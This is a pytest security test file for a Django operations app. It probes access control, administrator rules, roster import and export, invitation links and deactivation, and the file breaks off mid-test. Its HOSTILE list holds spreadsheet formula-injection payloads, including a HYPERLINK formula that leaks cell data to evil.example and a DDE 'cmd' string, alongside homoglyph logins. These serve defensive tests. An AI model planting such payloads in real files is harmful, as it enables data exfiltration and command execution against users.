"""An attacker's and reviewer's pass over people and organisations (issue 8 item 1): every
route for every role, ids of the wrong kind, the administrator rules, the roster export and
import with hostile content, invitations, and deactivation being final everywhere."""

import json
import re
from datetime import UTC, datetime, timedelta

import pytest
from django.core import mail
from django.core.management import CommandError, call_command
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from opsbook.accounts.choices import Role
from opsbook.accounts.models import ApiToken, Customer, Team, User
from opsbook.accounts.services import do_create_api_token
from opsbook.accounts.testing import PASSWORD, make_user
from opsbook.people import services
from opsbook.people.excel.exporter import export_people
from opsbook.people.invitations import invitation_link

from .helpers import CONTACTS, STAFF, counts, messages, run, sheets, state, xlsx

STAFF_HEAD = STAFF[0]
CONTACT_HEAD = CONTACTS[0]
SECRET = "secret-marker@example.com"


def _api(user=None) -> tuple[Client, dict[str, str]]:
    headers = {"Accept-Language": "en"}
    if user is not None:
        _token, raw = do_create_api_token(user)
        headers["Authorization"] = f"Bearer {raw}"
    return Client(), headers


def _send(client, headers, method, path, payload=None):
    if method == "get":
        return client.get("/api/people" + path, headers=headers)
    return getattr(client, method)(
        "/api/people" + path,
        json.dumps(payload or {}),
        content_type="application/json",
        headers=headers,
    )


@pytest.fixture
def world(personas):
    """One of everything, with a marker e-mail that must never leak to the wrong people."""
    team = personas.support_team
    victim = make_user("victim", Role.AGENT, team=team, email=SECRET, display_name="受害者")
    contact = personas.dana
    return {
        "staff": victim.pk,
        "contact": contact.pk,
        "team": team.pk,
        "customer": personas.customer_a.pk,
        "victim": victim,
    }


def _page_routes(world) -> list[tuple[str, str, dict]]:
    """(method, url, data) for every people page."""
    s, c, t, o = world["staff"], world["contact"], world["team"], world["customer"]
    return [
        ("get", reverse("people:staff"), {}),
        ("get", reverse("people:staff_new"), {}),
        ("post", reverse("people:staff_new"), {"username": "x", "display_name": "x"}),
        ("get", reverse("people:staff_edit", args=[s]), {}),
        ("post", reverse("people:staff_edit", args=[s]), {"display_name": "pwned"}),
        ("post", reverse("people:staff_active", args=[s]), {"active": "0"}),
        ("post", reverse("people:staff_invite", args=[s]), {"email": "evil@example.com"}),
        ("get", reverse("people:teams"), {}),
        ("get", reverse("people:team_new"), {}),
        ("get", reverse("people:team_edit", args=[t]), {}),
        ("post", reverse("people:team_edit", args=[t]), {"name": "pwned"}),
        ("get", reverse("people:customers"), {}),
        ("get", reverse("people:customer_new"), {}),
        ("get", reverse("people:customer_edit", args=[o]), {}),
        ("post", reverse("people:customer_edit", args=[o]), {"code": "x", "name": "pwned"}),
        ("get", reverse("people:contacts"), {}),
        ("get", reverse("people:contact_new"), {}),
        ("get", reverse("people:contact_edit", args=[c]), {}),
        ("post", reverse("people:contact_active", args=[c]), {"active": "0"}),
        ("post", reverse("people:contact_invite", args=[c]), {"email": "evil@example.com"}),
        ("get", reverse("people:export"), {}),
        ("get", reverse("people:import"), {}),
        ("get", reverse("people:import_preview"), {}),
        ("post", reverse("people:import_confirm"), {"upload": "x"}),
        ("post", reverse("people:import_cancel"), {}),
    ]


def _api_routes(world) -> list[tuple[str, str, dict | None]]:
    s, c, t, o = world["staff"], world["contact"], world["team"], world["customer"]
    return [
        ("get", "/staff", None),
        ("post", "/staff", {"username": "x", "name": "x", "role": "admin"}),
        ("get", f"/staff/{s}", None),
        ("patch", f"/staff/{s}", {"email": "evil@example.com"}),
        ("post", f"/staff/{s}/deactivate", None),
        ("post", f"/staff/{s}/reactivate", None),
        ("post", f"/staff/{s}/invite", {"email": "evil@example.com"}),
        ("get", "/contacts", None),
        ("post", "/contacts", {"username": "x", "name": "x", "customer_id": o}),
        ("get", f"/contacts/{c}", None),
        ("patch", f"/contacts/{c}", {"name": "pwned"}),
        ("post", f"/contacts/{c}/deactivate", None),
        ("post", f"/contacts/{c}/reactivate", None),
        ("post", f"/contacts/{c}/invite", {"email": "evil@example.com"}),
        ("get", "/teams", None),
        ("post", "/teams", {"name": "pwned"}),
        ("get", f"/teams/{t}", None),
        ("patch", f"/teams/{t}", {"name": "pwned"}),
        ("get", "/customers", None),
        ("post", "/customers", {"code": "x", "name": "pwned"}),
        ("get", f"/customers/{o}", None),
        ("patch", f"/customers/{o}", {"name": "pwned"}),
    ]


# --- Permission scoping -------------------------------------------------------------------------


@pytest.mark.parametrize(("who", "expected"), [("alice", 403), ("vera", 403), ("carl", 404)])
def test_every_people_page_refuses_agents_viewers_and_customers_and_writes_nothing(
    client, personas, world, who, expected
):
    client.force_login(getattr(personas, who))
    before = state()
    for method, url, data in _page_routes(world):
        response = getattr(client, method)(url, data)
        assert response.status_code == expected, (method, url, response.status_code)
        assert SECRET not in response.text and "受害者" not in response.text
    assert state() == before
    assert mail.outbox == []


def test_every_people_page_sends_strangers_to_the_login_page(client, world):
    before = state()
    for method, url, data in _page_routes(world):
        response = getattr(client, method)(url, data)
        assert response.status_code == 302, (method, url)
        assert reverse("accounts:login") in response["Location"]
    assert state() == before


@pytest.mark.parametrize(
    ("who", "expected"), [(None, 401), ("alice", 403), ("vera", 403), ("carl", 403)]
)
def test_every_people_api_route_refuses_everybody_but_managers(personas, world, who, expected):
    client, headers = _api(getattr(personas, who) if who else None)
    before = state()
    for method, path, payload in _api_routes(world):
        response = _send(client, headers, method, path, payload)
        assert response.status_code == expected, (method, path, response.status_code)
        assert SECRET not in response.text and "受害者" not in response.text
    assert state() == before
    assert mail.outbox == []


def test_a_deactivated_manager_is_refused_everywhere(client, personas, world):
    mia = personas.mia
    api, headers = _api(mia)
    client.force_login(mia)
    User.objects.filter(pk=mia.pk).update(is_active=False)
    assert client.get(reverse("people:staff")).status_code == 302
    assert _send(api, headers, "get", "/staff").status_code == 401


def test_ids_of_another_kind_are_404_on_every_route(client, personas, world):
    """A contact's id on the staff routes, a staff id on the contact routes, a team id where a
    customer is expected: not found, and nothing changes."""
    client.force_login(personas.erin)
    api, headers = _api(personas.erin)
    s, c = world["staff"], world["contact"]
    before = state()
    for url in (
        reverse("people:staff_edit", args=[c]),
        reverse("people:contact_edit", args=[s]),
        reverse("people:contact_edit", args=[personas.erin.pk]),
    ):
        assert client.get(url).status_code == 404
        assert client.post(url, {"display_name": "pwned"}).status_code == 404
    for name, pk in (("staff_active", c), ("staff_invite", c), ("contact_active", s)):
        assert client.post(reverse(f"people:{name}", args=[pk]), {"active": "0"}).status_code == 404
    assert client.post(reverse("people:contact_invite", args=[s]), {"email": ""}).status_code == 404
    for method, path in (
        ("get", f"/staff/{c}"),
        ("patch", f"/staff/{c}"),
        ("post", f"/staff/{c}/deactivate"),
        ("post", f"/staff/{c}/invite"),
        ("get", f"/contacts/{s}"),
        ("patch", f"/contacts/{s}"),
        ("post", f"/contacts/{s}/deactivate"),
        ("post", f"/contacts/{s}/invite"),
        ("get", f"/staff/{2**63}"),
        ("get", "/teams/0"),
        ("get", "/customers/-1"),
    ):
        assert _send(api, headers, method, path, {}).status_code in (404, 422), (method, path)
    assert state() == before


def test_a_contact_cannot_be_moved_onto_a_staff_team_or_given_a_staff_role(personas, world):
    api, headers = _api(personas.erin)
    c = world["contact"]
    response = _send(
        api, headers, "patch", f"/contacts/{c}", {"role": "admin", "team_id": world["team"]}
    )
    dana = User.objects.get(pk=c)
    assert (dana.role, dana.team_id) == (Role.CUSTOMER, None)
    assert response.status_code in (200, 422)


# --- Administrators -----------------------------------------------------------------------------


def test_a_manager_cannot_create_promote_edit_deactivate_or_invite_an_administrator(
    client, personas, world
):
    erin, mia = personas.erin, personas.mia
    api, headers = _api(mia)
    victim = world["staff"]
    before = state()
    assert (
        _send(
            api, headers, "post", "/staff", {"username": "boss", "name": "b", "role": "admin"}
        ).status_code
        == 403
    )
    assert _send(api, headers, "patch", f"/staff/{victim}", {"role": "admin"}).status_code == 403
    assert _send(api, headers, "patch", f"/staff/{mia.pk}", {"role": "admin"}).status_code == 403
    for method, path, payload in (
        ("patch", f"/staff/{erin.pk}", {"name": "pwned"}),
        ("patch", f"/staff/{erin.pk}", {"role": "agent"}),
        ("post", f"/staff/{erin.pk}/deactivate", None),
        ("post", f"/staff/{erin.pk}/invite", {"email": "evil@example.com"}),
        ("post", f"/staff/{erin.pk}/invite", None),
    ):
        assert _send(api, headers, method, path, payload).status_code == 403, (method, path)

    client.force_login(mia)
    client.post(
        reverse("people:staff_new"), {"username": "boss2", "display_name": "b", "role": Role.ADMIN}
    )
    client.post(
        reverse("people:staff_edit", args=[erin.pk]),
        {"username": "erin", "display_name": "pwned", "role": Role.AGENT},
    )
    client.post(
        reverse("people:staff_edit", args=[victim]),
        {"username": "victim", "display_name": "x", "role": Role.ADMIN},
    )
    assert client.post(
        reverse("people:staff_active", args=[erin.pk]), {"active": "0"}
    ).status_code in (302, 403)
    assert client.post(
        reverse("people:staff_invite", args=[erin.pk]), {"email": "evil@example.com"}
    ).status_code in (302, 403)
    assert state() == before
    assert mail.outbox == []
    assert User.objects.get(pk=erin.pk).is_active


def test_nobody_deactivates_themselves(client, personas):
    for person in (personas.erin, personas.mia):
        api, headers = _api(person)
        response = _send(api, headers, "post", f"/staff/{person.pk}/deactivate")
        assert response.status_code == 422
        client.force_login(person)
        client.post(reverse("people:staff_active", args=[person.pk]), {"active": "0"})
        assert User.objects.get(pk=person.pk).is_active


def test_the_last_active_administrator_cannot_be_deactivated_or_demoted(personas):
    erin = personas.erin
    with pytest.raises(services.ValidationError):
        services.do_set_active(None, erin, False)
    with pytest.raises(services.ValidationError):
        services.do_save_person(erin, erin, role=Role.MANAGER)
    erin.refresh_from_db()
    assert (erin.is_active, erin.role) == (True, Role.ADMIN)
    # With a second administrator, either may go.
    other = make_user("root2", Role.ADMIN)
    services.do_set_active(erin, other, False)
    assert not User.objects.get(pk=other.pk).is_active


def test_a_roster_may_not_leave_opsbook_without_an_administrator(personas):
    erin = personas.erin
    before = state()
    for cells in (
        ["Erin", "erin", "", "", "", "", "", "", "否"],
        ["Erin", "erin", "", "", "", "运营经理", "", "", ""],
    ):
        report = run(xlsx(sheets(员工=[STAFF_HEAD, cells], 团队=None, 客户=None, 联系人=None)))
        assert not report.ok
        assert any("last active administrator" in m for m in messages(report)), messages(report)
    assert state() == before
    # Handing over in the same file is fine.
    book = sheets(
        员工=[
            STAFF_HEAD,
            ["Erin", "erin", "", "", "", "运营经理", "", "", ""],
            ["Root", "root", "", "", "", "管理员", "", "", ""],
        ],
        团队=None,
        客户=None,
        联系人=None,
    )
    assert run(xlsx(book)).ok
    assert User.objects.get(pk=erin.pk).role == Role.MANAGER
    assert User.objects.get(username="root").role == Role.ADMIN


# --- The roster import, as a manager -------------------------------------------------------------


def _staff_only(*rows) -> bytes:
    return xlsx(sheets(员工=[STAFF_HEAD, *rows], 团队=None, 客户=None, 联系人=None))


def test_a_managers_roster_cannot_make_or_change_an_administrator(personas, world):
    mia, _erin = personas.mia, personas.erin
    before = state()
    for row in (
        ["受害者", "victim", SECRET, "", "", "管理员", "", "", ""],
        ["受害者", "victim", SECRET, "", "", "admin", "", "", ""],
        ["Boss", "newboss", "", "", "", "Administrator", "", "", ""],
        ["米娅", "mia", "", "", "", "管理员", "", "", ""],
        ["Erin", "erin", "evil@example.com", "", "", "", "", "", ""],
        ["Erin", "erin", "", "", "", "", "", "", "否"],
        ["Erin", "erin", "", "", "", "客服", "", "", ""],
    ):
        report = run(_staff_only(row), actor=mia)
        assert not report.ok, row
        assert any("administrator" in m for m in messages(report)), (row, messages(report))
    assert state() == before
    assert mail.outbox == []
    # The export lists the administrator unchanged: a manager may import it back.
    assert run(export_people(), "x.xlsx", actor=mia).ok


def test_a_managers_roster_cannot_deactivate_the_manager_but_may_rename_them(personas):
    mia = personas.mia
    before = state()
    report = run(_staff_only(["米娅", "mia", "", "", "", "运营经理", "", "", "否"]), actor=mia)
    assert not report.ok
    assert any("your own account" in m for m in messages(report))
    assert state() == before
    report = run(_staff_only(["米娅 Mia", "MIA", "", "", "", "", "", "", ""]), actor=mia)
    assert report.ok, messages(report)
    mia.refresh_from_db()
    assert (mia.display_name, mia.is_active, mia.role) == ("米娅 Mia", True, Role.MANAGER)


def test_a_roster_cannot_turn_a_customer_contact_into_staff_or_back(personas):
    dana, alice, _erin = personas.dana, personas.alice, personas.erin
    before = state()
    report = run(
        _staff_only(["Dana", "DANA", "", "", "客服部", "管理员", "", "", ""]), actor=personas.erin
    )
    assert not report.ok
    assert any("customer contact" in m for m in messages(report))
    contact = xlsx(
        sheets(
            联系人=[CONTACT_HEAD, ["Alice", "alice", "", "", "xinghuo", ""]],
            团队=None,
            员工=None,
            客户=None,
        )
    )
    report = run(contact, actor=personas.erin)
    assert not report.ok
    assert any("member of staff" in m for m in messages(report))
    assert state() == before
    assert User.objects.get(pk=dana.pk).role == Role.CUSTOMER
    assert User.objects.get(pk=alice.pk).role == Role.AGENT


def test_e_mail_addresses_that_differ_only_in_case_collide(personas, world):
    personas.mia  # noqa: B018
    before = state()
    report = run(
        _staff_only(
            ["甲", "jia", "Same@Example.com", "", "", "", "", "", ""],
            ["乙", "yi", "same@example.COM", "", "", "", "", "", ""],
        )
    )
    assert not report.ok and any("appears twice" in m for m in messages(report))
    report = run(_staff_only(["丙", "bing", SECRET.upper(), "", "", "", "", "", ""]))
    assert not report.ok and any("belongs to another account" in m for m in messages(report))
    api, headers = _api(personas.mia)
    response = _send(
        api, headers, "post", "/staff", {"username": "ding", "name": "丁", "email": SECRET.upper()}
    )
    assert response.status_code == 422
    assert state() == before


@pytest.mark.parametrize(
    "login",
    [
        "ｅｒｉｎ",  # full-width: the same login once normalised
        "\u0435rin",  # Cyrillic е
        "er\u0456n",  # Cyrillic і
        "erin\u200b",  # a zero-width space
        "\u0430\u0440\u0435",  # all Cyrillic: ape
        "ｍｉａ",
    ],
)
def test_a_login_that_looks_like_someone_elses_is_refused(personas, login):
    personas.erin, personas.mia  # noqa: B018
    make_user("ape")
    before = state()
    report = run(_staff_only(["冒充", login, "", "", "", "客服", "", "", ""]), actor=personas.mia)
    assert not report.ok, login
    assert any("登录名" in p.column for p in report.problems if p.column), messages(report)
    api, headers = _api(personas.mia)
    response = _send(
        api, headers, "post", "/staff", {"username": login, "name": "冒充", "invite": False}
    )
    assert response.status_code == 422, (login, response.text)
    assert state() == before


# --- The roster export --------------------------------------------------------------------------

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "'=already quoted",
    "''+twice",
    "王  芳",  # two spaces
    "=1+1 trailing",
]


def _hostile_roster(personas) -> None:
    personas.erin  # noqa: B018
    item_owner = personas.mia
    teams = [
        services.do_save_team(None, None, name=name, description="\t=cmd|x\r\n@y")
        for name in HOSTILE[:4]
    ]
    services.do_save_team(None, None, name="-sub", parent=teams[0], description="=z")
    for n, name in enumerate(HOSTILE):
        services.do_save_person(
            None,
            None,
            invite=False,
            username=f"h{n}",
            display_name=name,
            phone="+86 138 0000 0000" if n % 2 else "=cmd",
            team=teams[n % len(teams)],
            role=Role.AGENT,
        )
    customer = services.do_save_customer(
        None, None, code="evil", name="=org()", notes="+notes\n=more"
    )
    services.do_save_contact(
        None,
        None,
        invite=False,
        username="c1",
        display_name="@contact",
        phone="-1",
        customer=customer,
    )
    assert item_owner


def test_the_export_neutralises_every_cell_that_a_spreadsheet_would_run(personas):
    import io

    import openpyxl

    _hostile_roster(personas)
    workbook = openpyxl.load_workbook(io.BytesIO(export_people()))
    seen = 0
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate)
                if isinstance(cell.value, str):
                    seen += 1
                    assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r")), (
                        sheet.title,
                        cell.coordinate,
                        cell.value,
                    )
    assert seen > 40


def test_hostile_names_survive_export_then_import_unchanged(
    personas, django_capture_on_commit_callbacks
):
    _hostile_roster(personas)
    before = state()
    audit = counts()["audit"]
    with django_capture_on_commit_callbacks(execute=True):
        report = run(export_people(), "export.xlsx", actor=personas.erin)
    assert report.ok, messages(report)
    changed = [r for r in report.rows if r["action"] != "unchanged"]
    assert changed == []
    assert state() == before
    assert counts()["audit"] == audit
    assert mail.outbox == []
    assert User.objects.get(username="h0").display_name == HOSTILE[0]
    assert User.objects.get(username="h6").display_name == "王  芳"
    assert Team.objects.get(name=HOSTILE[0]).description == "=cmd|x\r\n@y"


# --- The roster import at scale, and twice ------------------------------------------------------


def _big_roster(n: int, *, email: bool = True) -> bytes:
    rows = [
        [
            f"员工{i}",
            f"user{i}",
            f"user{i}@example.com" if email else "",
            "",
            "客服部" if i % 2 else "运营中心",
            "客服",
            "",
            i % 200,
            "是",
        ]
        for i in range(n)
    ]
    contacts = [[f"联系人{i}", f"contact{i}", "", "", "xinghe", "是"] for i in range(n // 4)]
    return xlsx(sheets(员工=[STAFF_HEAD, *rows], 联系人=[CONTACT_HEAD, *contacts]))


def _wipe() -> None:
    Team.objects.update(parent=None, lead=None)
    User.objects.all().delete()
    Team.objects.all().delete()
    Customer.objects.all().delete()


def _queries(data: bytes, **kwargs) -> tuple[int, object]:
    with CaptureQueriesContext(connection) as captured:
        report = run(data, **kwargs)
    assert report.ok, messages(report)[:5]
    return len(captured), report


def test_the_imports_queries_grow_linearly_not_quadratically(
    db, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=False):
        check_200, _r = _queries(_big_roster(200), dry_run=True)
        check_400, _r = _queries(_big_roster(400), dry_run=True)
    assert check_400 == check_200  # the check reads the database a fixed number of times

    _wipe()
    with django_capture_on_commit_callbacks(execute=False):
        write_200, _r = _queries(_big_roster(200))
    _wipe()
    with django_capture_on_commit_callbacks(execute=False):
        write_400, _r = _queries(_big_roster(400))
    per_row = (write_400 - write_200) / 250  # 200 staff and 50 contacts more
    assert write_400 - write_200 <= (write_200 + 50) * 1.1, (write_200, write_400)
    assert per_row < 25, per_row


def test_a_ten_thousand_row_roster_is_checked(db):
    report = run(_big_roster(10_000), dry_run=True)
    assert report.ok, messages(report)[:5]
    assert report.summary["staff"]["created"] == 10_000
    assert report.summary["contact"]["created"] == 2_500
    assert User.objects.count() == 0


def test_importing_the_same_roster_twice_writes_and_sends_nothing_the_second_time(
    personas, django_capture_on_commit_callbacks
):
    data = _big_roster(30)
    with django_capture_on_commit_callbacks(execute=True):
        first = run(data, actor=personas.erin)
    assert first.ok and first.invited == 30
    assert len(mail.outbox) == 30
    before, audit = state(), counts()["audit"]
    with (
        django_capture_on_commit_callbacks(execute=True) as callbacks,
        CaptureQueriesContext(connection) as captured,
    ):
        second = run(data, actor=personas.erin)
    assert second.ok and second.invited == 0
    assert {r["action"] for r in second.rows} == {"unchanged"}
    assert callbacks == []
    assert len(mail.outbox) == 30
    assert (state(), counts()["audit"]) == (before, audit)
    writes = [
        q["sql"]
        for q in captured.captured_queries
        if q["sql"].startswith(("INSERT", "UPDATE", "DELETE"))
    ]
    assert writes == []


# --- Invitations --------------------------------------------------------------------------------

START = datetime(2026, 3, 2, 9, 0, tzinfo=UTC)
STRONG = "Fresh-horse-42-staple"


def _invited(username: str = "newbie", **fields) -> User:
    person = services.do_save_person(
        None,
        None,
        invite=False,
        username=username,
        display_name="新人",
        email=f"{username}@example.com",
        **fields,
    )
    return person


def _open(client, link: str):
    """Follow the link to the set-password form: (its URL, the page)."""
    page = client.get(link, follow=True)
    url = page.redirect_chain[-1][0] if page.redirect_chain else link
    return url, page


def _set(client, link: str, password: str = STRONG):
    url, page = _open(client, link)
    if "invalid-link" in page.text:
        return page
    return client.post(url, {"new_password1": password, "new_password2": password})


def test_an_invitation_works_until_the_last_moment_of_the_injected_clock(
    client, time_machine, settings, db
):
    time_machine.move_to(START, tick=False)
    person = _invited()
    link = invitation_link(person)
    time_machine.move_to(
        START + timedelta(seconds=settings.PASSWORD_RESET_TIMEOUT - 60), tick=False
    )
    assert "set-password" in _open(client, link)[1].text
    time_machine.move_to(START + timedelta(seconds=settings.PASSWORD_RESET_TIMEOUT + 1), tick=False)
    client.logout()
    assert _set(Client(), link).status_code == 200
    person.refresh_from_db()
    assert not person.has_usable_password()


def test_a_link_is_used_once_and_setting_a_password_voids_the_other_links(client, db):
    person = _invited()
    first, second = invitation_link(person), invitation_link(person)
    assert _set(client, first).status_code == 302
    other = Client()
    assert "invalid-link" in _set(other, first, "Another-horse-99").text
    assert "invalid-link" in _set(other, second, "Another-horse-99").text
    person.refresh_from_db()
    assert person.check_password(STRONG)


@pytest.mark.parametrize("change", ["email", "deactivate", "deactivate_and_reactivate", "password"])
def test_a_link_stops_working_when_the_account_changes(client, personas, change):
    person = _invited()
    link = invitation_link(person)
    if change == "email":
        services.do_save_person(personas.mia, person, email="other@example.com")
    elif change == "password":
        person.set_password("Old-known-pass-77")
        person.save()
    else:
        services.do_set_active(personas.mia, person, False)
        if change == "deactivate_and_reactivate":
            services.do_set_active(personas.mia, person, True)
    response = _set(client, link)
    assert "invalid-link" in response.text
    person.refresh_from_db()
    assert not person.check_password(STRONG)
    assert "_auth_user_id" not in client.session


def test_a_link_made_for_a_deactivated_account_neither_sets_a_password_nor_signs_in(client, db):
    person = _invited()
    User.objects.filter(pk=person.pk).update(is_active=False)
    person.refresh_from_db()
    link = invitation_link(person)  # as if made by hand: the services refuse to send it
    response = _set(client, link)
    assert "invalid-link" in response.text
    person.refresh_from_db()
    assert not person.has_usable_password()
    assert "_auth_user_id" not in client.session


def test_a_deactivated_account_is_not_invited(personas, client):
    person = _invited()
    services.do_set_active(personas.mia, person, False)
    api, headers = _api(personas.mia)
    assert _send(api, headers, "post", f"/staff/{person.pk}/invite", {}).status_code == 422
    client.force_login(personas.mia)
    client.post(reverse("people:staff_invite", args=[person.pk]), {"email": ""})
    assert mail.outbox == []
    assert User.objects.get(pk=person.pk).invited_at is None


def test_wrong_links_look_the_same_whoever_they_name(client, personas):
    person = _invited()
    good = invitation_link(person)
    uid = good.rstrip("/").split("/")[-2]
    bodies = []
    for path in (
        f"/people/welcome/{uid}/0-0/",
        "/people/welcome/MTIzNDU2Nzg5/0-0/",  # a user id that does not exist
        "/people/welcome/!!!/0-0/",
        f"/people/welcome/{uid}/{good.rstrip('/').split('/')[-1][:-1]}x/",
    ):
        response = client.get(path)
        assert response.status_code == 200
        bodies.append(re.sub(r'"X-CSRFToken": "[^"]+"', "", response.text))
    assert len(set(bodies)) == 1
    assert "newbie" not in bodies[0]


def test_the_link_is_built_on_the_configured_address(
    settings, db, django_capture_on_commit_callbacks
):
    settings.OPSBOOK_BASE_URL = "https://ops.example.org"
    with django_capture_on_commit_callbacks(execute=True):
        services.do_save_person(
            None, None, username="far", display_name="远", email="far@example.com"
        )
    (message,) = mail.outbox
    body = str(message.body)
    assert re.search(r"https://ops\.example\.org/people/welcome/[^/\s]+/[^/\s]+/", body)
    assert "testserver" not in body


@pytest.mark.parametrize("password", ["123", "password", "newbie2026", "12345678901234"])
def test_the_set_password_page_refuses_weak_passwords(client, db, password):
    person = _invited()
    response = _set(client, invitation_link(person), password)
    assert response.status_code == 200
    assert "new_password2" in response.context["form"].errors
    person.refresh_from_db()
    assert not person.has_usable_password()
    assert "_auth_user_id" not in client.session


def test_the_set_password_form_needs_its_csrf_token(db):
    person = _invited()
    client = Client(enforce_csrf_checks=True)
    url, page = _open(client, invitation_link(person))
    assert "set-password" in page.text
    response = client.post(url, {"new_password1": STRONG, "new_password2": STRONG})
    assert response.status_code == 403
    person.refresh_from_db()
    assert not person.has_usable_password()


# --- Deactivation is final, through every door ---------------------------------------------------

PREFERENCES = reverse("accounts:preferences")


def _admin_form_save(admin_client, user: User, active: bool) -> None:
    page = admin_client.get(reverse("admin:accounts_user_change", args=[user.pk]))
    form = page.context["adminform"].form
    data = {name: value for name, value in form.initial.items() if value is not None}
    data.update(
        {
            "is_active": "on" if active else "",
            "team": user.team_id or "",
            "customer": user.customer_id or "",
            "date_joined_0": "2026-01-01",
            "date_joined_1": "09:00:00",
        }
    )
    response = admin_client.post(reverse("admin:accounts_user_change", args=[user.pk]), data)
    assert response.status_code == 302, response.context["adminform"].form.errors


def _switch(door: str, personas, person: User, active: bool) -> None:
    erin = personas.erin
    flag = "是" if active else "否"
    if door == "page":
        client = Client()
        client.force_login(erin)
        name = "people:contact_active" if person.role == Role.CUSTOMER else "people:staff_active"
        assert (
            client.post(
                reverse(name, args=[person.pk]), {"active": "1" if active else "0"}
            ).status_code
            == 302
        )
    elif door == "api":
        api, headers = _api(erin)
        kind = "contacts" if person.role == Role.CUSTOMER else "staff"
        verb = "reactivate" if active else "deactivate"
        assert _send(api, headers, "post", f"/{kind}/{person.pk}/{verb}").status_code == 200
    elif door == "import":
        if person.role == Role.CUSTOMER:
            rows = {
                "联系人": [
                    CONTACT_HEAD,
                    [person.label, person.username, "", "", str(person.customer), flag],
                ]
            }
        else:
            rows = {
                "员工": [STAFF_HEAD, [person.label, person.username, "", "", "", "", "", "", flag]]
            }
        report = run(xlsx(rows), actor=erin)
        assert report.ok, messages(report)
    elif door == "admin":
        client = Client()
        root = User.objects.filter(username="root").first()
        client.force_login(
            root or User.objects.create_superuser("root", "root@example.com", PASSWORD)
        )
        _admin_form_save(client, User.objects.get(pk=person.pk), active)
    elif door == "save":
        fresh = User.objects.get(pk=person.pk)
        fresh.is_active = active
        fresh.save()
    elif door == "organisation":
        customer = Customer.objects.get(contacts=person)
        if active:
            services.do_save_customer(erin, customer, is_active=True)
            services.do_set_active(erin, User.objects.get(pk=person.pk), True)
        else:
            services.do_save_customer(erin, customer, is_active=False)


@pytest.mark.parametrize(
    ("door", "who"),
    [
        ("page", "alice"),
        ("page", "dana"),
        ("api", "alice"),
        ("api", "dana"),
        ("import", "mia"),
        ("import", "dana"),
        ("admin", "alice"),
        ("admin", "dana"),
        ("save", "mia"),
        ("organisation", "dana"),
    ],
)
def test_deactivation_ends_tokens_and_sessions_for_good_whatever_the_door(personas, door, who):
    person = getattr(personas, who)
    personas.erin  # noqa: B018
    _token, raw = do_create_api_token(person)
    bearer = {"Authorization": f"Bearer {raw}"}
    old = Client()
    old.force_login(person)
    assert old.get(PREFERENCES).status_code == 200
    assert Client().get("/api/people/staff", headers=bearer).status_code != 401

    _switch(door, personas, person, False)
    assert not User.objects.get(pk=person.pk).is_active
    assert ApiToken.objects.get(user=person).revoked_at is not None
    _switch(door, personas, person, True)
    assert User.objects.get(pk=person.pk).is_active

    assert old.get(PREFERENCES).status_code == 302  # the old session stays signed out
    assert Client().get("/api/people/staff", headers=bearer).status_code == 401
    assert ApiToken.objects.get(user=person).revoked_at is not None
    fresh = Client()
    signed_in = fresh.post(
        reverse("accounts:login"), {"username": person.username, "password": PASSWORD}
    )
    assert signed_in.status_code == 302
    assert fresh.get(PREFERENCES).status_code == 200
    _new, new_raw = do_create_api_token(User.objects.get(pk=person.pk))
    expected = 200 if person.role in (Role.ADMIN, Role.MANAGER) else 403
    status = (
        Client()
        .get("/api/people/staff", headers={"Authorization": f"Bearer {new_raw}"})
        .status_code
    )
    assert status == expected


# --- More doors ---------------------------------------------------------------------------------


def test_the_api_ignores_fields_it_does_not_offer(personas, world):
    api, headers = _api(personas.mia)
    victim = world["staff"]
    payload = {
        "is_superuser": True,
        "is_staff": True,
        "is_active": False,
        "password": "pbkdf2_sha256$1$x$y",
        "session_stamp": "",
        "invited_at": "2020-01-01T00:00:00Z",
        "customer_id": world["customer"],
        "phone": "123",
    }
    response = _send(api, headers, "patch", f"/staff/{victim}", payload)
    assert response.status_code == 200, response.text
    person = User.objects.get(pk=victim)
    assert (person.is_superuser, person.is_staff, person.is_active) == (False, False, True)
    assert (person.customer_id, person.invited_at, person.phone) == (None, None, "123")
    assert person.check_password(PASSWORD)
    created = _send(
        api,
        headers,
        "post",
        "/staff",
        {"username": "sneaky", "name": "s", "is_superuser": True, "role": "customer"},
    )
    assert created.status_code == 422
    created = _send(
        api,
        headers,
        "post",
        "/staff",
        {"username": "sneaky", "name": "s", "is_superuser": True, "password": "x"},
    )
    assert created.status_code == 201
    sneaky = User.objects.get(username="sneaky")
    assert (sneaky.is_superuser, sneaky.role, sneaky.has_usable_password()) == (
        False,
        Role.AGENT,
        False,
    )


def test_a_manager_cannot_reactivate_a_deactivated_administrator(personas):
    erin, mia = personas.erin, personas.mia
    root = make_user("root", Role.ADMIN)
    services.do_set_active(root, erin, False)
    api, headers = _api(mia)
    assert _send(api, headers, "post", f"/staff/{erin.pk}/reactivate").status_code == 403
    report = run(_staff_only(["Erin", "erin", "", "", "", "", "", "", "是"]), actor=mia)
    assert not report.ok
    assert not User.objects.get(pk=erin.pk).is_active


def test_a_roster_may_move_an_e_mail_address_from_one_person_to_another(personas):
    make_user("old", email="shared@example.com")
    make_user("one", email="one@example.com")
    make_user("two", email="two@example.com")
    report = run(
        _staff_only(
            ["新人", "fresh", "shared@example.com", "", "", "", "", "", ""],
            ["Old", "old", "old@example.com", "", "", "", "", "", ""],
            ["One", "one", "two@example.com", "", "", "", "", "", ""],
            ["Two", "two", "one@example.com", "", "", "", "", "", ""],
        ),
        actor=personas.erin,
    )
    assert report.ok, messages(report)
    emails = dict(
        User.objects.filter(username__in=["fresh", "old", "one", "two"]).values_list(
            "username", "email"
        )
    )
    assert emails == {
        "fresh": "shared@example.com",
        "old": "old@example.com",
        "one": "two@example.com",
        "two": "one@example.com",
    }


def test_the_command_line_import_checks_the_user_it_runs_as(personas, tmp_path):
    roster = tmp_path / "roster.xlsx"
    roster.write_bytes(_staff_only(["Boss", "boss", "", "", "", "管理员", "", "", ""]))
    mia = personas.mia
    before = (personas.vera, personas.alice, state())[-1]
    User.objects.filter(pk=personas.alice.pk).update(role=Role.MANAGER, is_active=False)
    for who in ("vera", "alice", "dana", "nobody"):
        with pytest.raises(CommandError):
